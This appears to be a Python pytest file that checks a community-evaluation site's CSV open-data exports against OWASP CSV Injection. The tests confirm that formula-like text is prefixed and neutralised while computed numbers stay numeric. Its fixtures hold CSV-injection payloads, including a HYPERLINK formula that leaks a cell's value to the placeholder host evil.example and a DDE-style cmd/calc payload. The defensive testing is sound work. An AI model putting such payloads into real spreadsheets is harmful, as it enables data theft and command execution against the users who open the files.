"""The open data's CSV files: formula-looking text from content is neutralised (OWASP CSV
Injection), computed numbers are not, and the file opens in Excel (UTF-8 BOM).

The rankings are built with the real model and scoring functions; the CSV is read back
with the csv module."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from showcase.areas import area_figures
from showcase.exports import safe_cell
from showcase.model import (
    Band,
    Community,
    Evaluation,
    Framework,
    FrameworkContent,
    Indicator,
    Item,
    Site,
    Special,
    Veto,
)
from showcase.opendata import EVALUATIONS, INTEGER, NUMBER, TABLES, OpenData, table_csv
from showcase.scoreviews import ranking_views
from showcase.scoring import build_rankings, community_scores
from showcase.views import directory

D = Decimal
BOM = "\ufeff".encode()


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        # OWASP's characters, first in the cell
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil.example/?"&A1,"点我")', '\'=HYPERLINK("http://evil.example/?"&A1,"点我")'),
        ("+86 0794", "'+86 0794"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # full-width forms, which Excel converts in Chinese locales
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        # a text cell that looks like a number is still text from content
        ("-5", "'-5"),
        # nothing to neutralise
        ("城关社区", "城关社区"),
        ("a=b", "a=b"),
        ("1+1", "1+1"),
        ("'=1+1", "'=1+1"),
        ("", ""),
        (None, ""),
        # numbers the build computes: written as they are, never prefixed
        (2026, "2026"),
        (-3, "-3"),
        (D("90.00"), "90.00"),
        (D("-2.5"), "-2.5"),
        (D("0"), "0"),
    ],
)
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


@pytest.mark.parametrize("value", [84.85, True, ["=1"]])
def test_safe_cell_refuses_other_types(value):
    with pytest.raises(TypeError):
        safe_cell(value)


def make_framework() -> Framework:
    """One content of 100 points; labels from content that look like formulas."""
    framework = Framework(
        id="=fw",
        title="测评体系",
        issuer="测试",
        effective=dt.date(2026, 1, 1),
        basic_total=D("100"),
        states={"a": D("1.0"), "b": D("0.5"), "z": D("0")},
        special_max=D("10"),
        bands=[
            Band(min=D("90"), label="＝优秀", color="#2e7d32"),
            Band(min=D("60"), label="合格", color="#6d4c41"),
            Band(min=D("0"), label="-不合格", color="#c62828"),
            Band(min=D("-100"), label="@扣分", color="#b71c1c"),
        ],
        vetoes=[Veto(id="v", label="@一票否决")],
        items=[
            Item(
                id="1",
                title="项目1",
                indicators=[
                    Indicator(
                        id="1.1", title="指标1.1", contents=[FrameworkContent(id="1", title="内容1", points=D("100"))]
                    )
                ],
            )
        ],
    )
    framework.basic_total = D("100")
    return framework


def make_community(
    slug: str,
    name: str,
    street: str,
    district: str,
    state: str,
    specials: tuple[str, ...] = (),
    vetoes: tuple[str, ...] = (),
) -> Community:
    evaluation = Evaluation(
        framework="=fw",
        date=dt.date(2026, 10, 15),
        evaluator="测评组",
        states={"1": state},
        special=[Special(title=f"特色{i}", points=D(p)) for i, p in enumerate(specials)],
        vetoes=list(vetoes),
        year=2026,
        community=slug,
        path=f"content/communities/{slug}/evaluations/2026.yml",
    )
    return Community(name=name, street=street, district=district, slug=slug, evaluations={2026: evaluation})


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    text = data[len(BOM) :].decode("utf-8")
    assert not text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text, newline="")))


def hostile_data() -> OpenData:
    framework = make_framework()
    communities = [
        # a: 100 × 1.0 = 100 → ＝优秀, rank 1
        make_community("alpha", '=HYPERLINK("http://evil.example/?"&A1,"点我")', "+86 街道", "-区", "a"),
        # b: 100 × 0.5 = 50, + 5 = 55 → -不合格, rank 2
        make_community("beta", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "b", ("5",)),
        # b: 50 → -不合格, rank 3
        make_community("epsilon", "城关社区", "城关街道", "临川区", "b"),
        # z: 0, specials −5 (min(−5, 10) = −5): total −5 → @扣分, rank 4.
        # A computed negative number: it must stay a number.
        make_community("delta", "＠SUM(A1)", "＋1", "－1", "z", ("-5",)),
        # vetoed: no band, no rank, the veto label
        make_community("gamma", "＝1+1", "正常街道", "正常区", "a", vetoes=("v",)),
    ]
    site = Site(communities={c.slug: c for c in communities}, frameworks={framework.id: framework})
    today = dt.date(2026, 11, 23)
    scores = {c.slug: community_scores(c, site) for c in communities}
    rankings = ranking_views(build_rankings(site, scores))
    areas = area_figures(directory(site), [v.ranking for v in rankings], [], today)
    return OpenData(site, scores, rankings, [], [], areas, today, lambda uri: uri.removesuffix("index.md"))


def test_evaluations_csv_neutralises_content_and_keeps_numbers():
    data = hostile_data()
    rows = read_csv(table_csv(EVALUATIONS, data.rows(EVALUATIONS)))
    assert rows[0] == EVALUATIONS.names
    by_id = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    pick = ("community_name", "district", "street", "framework", "basic", "special", "total", "total_display", "band", "rank", "vetoes")
    assert [by_id[f"{slug}-2026"][k] for slug in ("alpha", "beta", "delta", "gamma") for k in pick] == [
        *('\'=HYPERLINK("http://evil.example/?"&A1,"点我")', "'-区", "'+86 街道", "'=fw", "100", "0", "100", "100.0", "'＝优秀", "1", "[]"),
        *("'@SUM(1+1)*cmd|' /C calc'!A0", "'\r=1+1", "'\t=1+1", "'=fw", "50", "5", "55", "55.0", "'-不合格", "2", "[]"),
        *("'＠SUM(A1)", "'－1", "'＋1", "'=fw", "0", "-5", "-5", "-5.0", "'@扣分", "4", "[]"),
        *("'＝1+1", "正常区", "正常街道", "'=fw", "100", "0", "100", "100.0", "", "", '["@一票否决"]'),
    ]


@pytest.mark.parametrize("table", TABLES, ids=lambda t: t.name)
def test_no_csv_cell_from_content_starts_a_formula(table):
    """Every table of the open data, over content whose names, streets, districts,
    framework id and labels all look like formulas: text cells are neutralised, numbers
    read back as numbers."""
    data = hostile_data()
    rows = read_csv(table_csv(table, data.rows(table)))
    assert rows[0] == table.names
    numeric = {c.name for c in table.columns if c.kind in (NUMBER, INTEGER) or c.shown}
    for row in rows[1:]:
        for name, cell in zip(rows[0], row, strict=True):
            if name in numeric and cell:
                Decimal(cell)  # a number, not text
            else:
                assert cell[:1] not in set("=+-@\t\r＝＋－＠"), (table.name, name, cell)
